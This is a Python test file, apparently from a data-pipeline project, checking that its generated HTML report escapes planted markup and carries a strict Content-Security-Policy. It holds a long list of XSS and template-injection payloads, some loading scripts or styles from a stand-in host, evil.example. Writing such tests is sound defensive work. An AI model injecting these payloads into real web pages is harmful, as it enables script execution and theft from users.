"""Whatever is planted in a dataset or a comparison: the report shows it as text, and runs and loads nothing."""

import json
from html.parser import HTMLParser

import jinja2
import pyarrow as pa
import pyarrow.parquet as pq
import pytest
from click.testing import CliRunner

import tamis
from tamis.cli import main
from tamis.errors import RecipeError
from tamis.reports.report import write_report

PAYLOADS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "</title><script>alert(1)</script>",
    "</td></tr></table><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "--><script>alert(1)</script><!--",
    "<!--<img src=x onerror=alert(1)>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<img src=x onerror=alert(1)>",
    "<img/src='x'/onerror='alert(1)'>",
    '"><img src=x onerror="alert(1)">',
    "' onmouseover='alert(1)",
    '" onfocus="alert(1)" autofocus="',
    "<svg onload=alert(1)>",
    "<svg><script>alert&#40;1&#41;</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'>",
    "<object data=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==>",
    "<embed src=//evil.example/x.swf>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>@import '//evil.example/x.css';</style>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<form action=//evil.example><input name=x><button>go",
    "<a href=javascript:alert(1)>x</a>",
    "<a href='jav&#x09;ascript:alert(1)'>x</a>",
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "<body onload=alert(1)>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)>",
    "<template><script>alert(1)</script></template>",
    "<plaintext>",
    "<textarea><script>alert(1)</script>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "{{ 7 * 7 }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in [1] %}{{ x }}{% endfor %}",
    "{# gone #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "\uff1cscript\uff1ealert(1)\uff1c/script\uff1e",
    "\u2028<script>\u2029alert(1)</script>",
    "\u202e<script>alert(1)</script>",
    "\ufeff<script>alert(1)</script>",
    "\u00adjava\u00adscript:alert(1)",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "x\x00<script>alert(1)</script>",
    "x\r\n\r\n<script>alert(1)</script>",
]
HARMLESS = [f"harmless {number}" for number in range(len(PAYLOADS))]
ALLOWED = {
    *("html", "head", "meta", "title", "style", "body", "h1", "h2", "h3", "p", "div", "table", "tr", "th", "td"),
    *("span", "i", "code", "pre", "figure", "figcaption", "svg", "path", "text"),
}  # fmt: skip


class Seen(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, page):
        super().__init__()
        self.elements, self.text = [], []
        self.feed(page)
        self.close()

    def handle_starttag(self, tag, attributes):
        self.elements.append((tag, dict(attributes)))

    def handle_data(self, data):
        self.text.append(data)


def active(seen):
    """What runs or loads something: elements beyond the plain ones, event handlers, addresses."""
    return [
        (tag, attributes)
        for tag, attributes in seen.elements
        if tag not in ALLOWED
        or any(name.startswith("on") or name in ("src", "href", "srcdoc", "action", "data") for name in attributes)
    ] + [text for text in seen.text if "@import" in text and text.lstrip().startswith(":root")]


def page_of(folder, planted):
    """The report of a run whose ids, labels, texts, column names, file names and comparison are the planted ones."""
    columns = {f"id {planted[0]}": [f"{i}{text}" for i, text in enumerate(planted)], f"text {planted[1]}": planted}
    columns[f"label {planted[2]}"] = planted
    source = folder / f"rows {planted[9].replace('/', '|')}.parquet"
    pq.write_table(pa.table(columns), source)
    reference = folder / f"eval {planted[9].replace('/', '|')}.parquet"
    pq.write_table(pa.table(columns).slice(0, 12), reference)
    names = dict(zip(("id", "text", "label"), columns, strict=True))
    recipe = {
        "name": "planted",
        "dataset": {"path": str(source), **names},
        "stages": [
            {"kind": "dedup", "eps": 0.0, "against": [str(reference)]},
            {"kind": "select", "method": "random", "budget": 0.5},
        ],
        "max_bad_fraction": 0.5,
    }
    out = folder / "run"
    tamis.run(recipe, out, executor="sync")
    results = [{"name": text, "size": 1, "samples_seen": 1, "mean": 0.5, "ci95": 0.1} for text in planted]
    (out / "compare.json").write_text(json.dumps({"note": planted[0], "results": results, "verdict": planted}))
    return write_report(out).read_bytes().decode()


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    return {
        name: page_of(tmp_path_factory.mktemp(name), planted)
        for name, planted in (("planted", PAYLOADS), ("harmless", HARMLESS))
    }


def test_the_report_is_inert(pages, tally):
    seen, plain = Seen(pages["planted"]), Seen(pages["harmless"])
    assert active(seen) == []
    without_widths = [
        [(tag, {name: value for name, value in attributes.items() if name != "style"}) for tag, attributes in page]
        for page in (seen.elements, plain.elements)
    ]
    assert without_widths[0] == without_widths[1]
    text = "".join(seen.text)
    for payload in PAYLOADS:
        assert text.count(payload) >= 3, payload  # as a class, a result and a line of the verdict: shown, not lost
        tally("HTML planted in a report", detected=1)


def test_the_page_forbids_what_it_does_not_have(pages):
    policy = [
        attributes["content"]
        for tag, attributes in Seen(pages["planted"]).elements
        if tag == "meta" and attributes.get("http-equiv") == "Content-Security-Policy"
    ]
    assert policy == ["default-src 'none'; style-src 'unsafe-inline'"]


def test_without_escaping_the_page_would_run_them(tmp_path, monkeypatch):
    """The control: the same page without autoescape."""
    real = jinja2.Environment
    monkeypatch.setattr(jinja2, "Environment", lambda **options: real(**{**options, "autoescape": False}))
    seen = Seen(page_of(tmp_path, PAYLOADS))
    assert {"script", "img", "svg"} & {tag for tag, _ in active(seen)}


def test_a_name_that_is_markup_is_refused(small_recipe, tmp_path):
    for payload in PAYLOADS:
        with pytest.raises(RecipeError, match="name"):
            tamis.run({**small_recipe, "name": payload}, tmp_path / "run", executor="sync")
    assert not (tmp_path / "run" / "attempt.json").exists()


def test_an_id_that_is_markup_is_told_as_it_is(pages, tmp_path):
    """The command line prints text."""
    out = tmp_path / "run"
    page_of(tmp_path, PAYLOADS)
    result = CliRunner().invoke(main, ["why", f"0{PAYLOADS[0]}", "--run", str(out)])
    assert result.exit_code == 0
    assert result.output.startswith(f"0{PAYLOADS[0]} (row 0)")
